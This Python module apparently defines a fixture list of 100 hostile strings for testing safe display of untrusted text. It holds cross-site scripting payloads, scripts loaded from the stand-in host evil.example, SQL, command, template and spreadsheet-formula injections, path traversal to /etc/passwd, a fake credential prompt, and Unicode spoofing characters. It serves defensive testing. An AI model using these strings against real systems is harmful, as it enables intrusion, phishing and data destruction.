"""A hundred texts that mean harm to whoever shows them: markup, scripts, templates, characters that turn or hide."""

from __future__ import annotations

_MARKUP = [
    "<script>window.hit=1</script>", "<ScRiPt>window.hit=1</sCrIpT>", "<script src=//evil.example/x.js></script>", "</script><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>", "<img src='//evil.example/p.gif'>", "<svg onload=window.hit=1>", "<svg><script>window.hit=1</script></svg>",
    "<body onload=window.hit=1>", "<iframe src='javascript:parent.hit=1'></iframe>", "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<a href='javascript:window.hit=1'>here</a>", "<a href=//evil.example>here</a>", "<form action=//evil.example><button>Approve</button></form>",
    "<input autofocus onfocus=window.hit=1>", "<details open ontoggle=window.hit=1>", "<video><source onerror=window.hit=1></video>", "<math><mtext><script>window.hit=1</script>",
    "<style>body{display:none}</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>", "<marquee onstart=window.hit=1>", "<textarea></textarea><script>window.hit=1</script>",
    "</textarea><script>window.hit=1</script>", "</title><script>window.hit=1</script>", "</bdi></div></main><h1>Approved</h1>", "<!-- comment --><script>window.hit=1</script>",
    "<!--[if gte IE 4]><script>window.hit=1</script><![endif]-->", "<![CDATA[<script>window.hit=1</script>]]>", "\"><script>window.hit=1</script>", "'><script>window.hit=1</script>",
    "\" onmouseover=\"window.hit=1", "' onfocus='window.hit=1' autofocus='", "` onload=window.hit=1 `", "<div hx-get=//evil.example hx-trigger=load>", "<div hx-on:load='window.hit=1'>",
    "<p data-hx-get='/console/queue' hx-swap-oob='true' id='main'>x</p>", "<template><script>window.hit=1</script></template>", "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<x onclick=window.hit=1>click</x>", "<button formaction=javascript:window.hit=1>", "<dialog open>You are signed out: <input name=key></dialog>", "<select><option><script>window.hit=1</script>",
    "<script>/*", "*/window.hit=1//</script>", "<img src=`x` onerror=window.hit=1>", "<a href='data:text/html,<script>window.hit=1</script>'>x</a>",
]  # fmt: skip
_TEMPLATES = [
    "{{ 7 * 7 }}", "{{ visit.office.door.keys }}", "{% for x in range(9) %}x{% endfor %}", "{# gone #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('window.hit=1')()}}",
    "%s%s%s%n", "%00", "&lt;script&gt;window.hit=1&lt;/script&gt;", "&#60;script&#62;window.hit=1", "&amp;amp;", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "javascript:window.hit=1",
    "'; DROP TABLE drafts; --", "1' OR '1'='1", "$(reboot)", "`reboot`", "../../../../etc/passwd", "file:///etc/passwd", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "\r\nSet-Cookie: hit=1",
]  # fmt: skip
_CHARACTERS = [
    "\u202eevila si siht\u202c", "\u2066\u2067approved\u2069\u2069", "pay\u200bpal", "\ufeffhidden mark", "a\u00adb\u00adc", "\u2028line\u2029paragraph", "tag\U000e0041\U000e0042s",
    "Z\u0351\u036b\u0343\u0354a\u0323\u0347l\u0300\u0301\u0302g\u0333o\u0334\u0335", "\u0627\u0644\u0645\u0631\u062d\u0644\u0629 <b>x</b>", "\u05e9\u05dc\u05d5\u05dd \u202d abc", "p\u0430yp\u0430l.com", "\uff1cscript\uff1ewindow.hit=1",
    "\u3000wide\u3000space\u3000", "\u0007bell\u001b[31mred", "\u0085next line", "\u034fjoiner\u17b4", "\ue000private use", "\ufffd\ufffe replaced", "👩‍👩‍👧‍👦" * 40, "\u0e49" * 200,
    "ﷺ" * 30, "A" * 3_000, "word " * 600, "\t\ttabs\t\tand  two  spaces ", "𝓗𝓮𝓵𝓵𝓸 ⓗⓔⓛⓛⓞ",
]  # fmt: skip

TEXTS: tuple[str, ...] = (*_MARKUP, *_TEMPLATES, *_CHARACTERS)
